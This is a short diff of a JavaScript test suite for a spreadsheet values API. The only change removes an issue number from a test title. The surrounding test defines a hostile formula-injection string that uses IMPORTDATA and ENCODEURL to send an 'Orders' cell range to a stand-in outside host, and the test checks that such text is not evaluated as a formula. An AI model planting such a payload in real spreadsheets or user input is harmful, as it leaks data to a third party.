@@ -164,7 +164,7 @@ describe('Values.batchGet: render options', () => {
   });
 });
 
-describe('text that starts with "=" is not a formula, on every read path (issue 19)', () => {
+describe('text that starts with "=" is not a formula, on every read path', () => {
   const HOSTILE =
     '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';
 
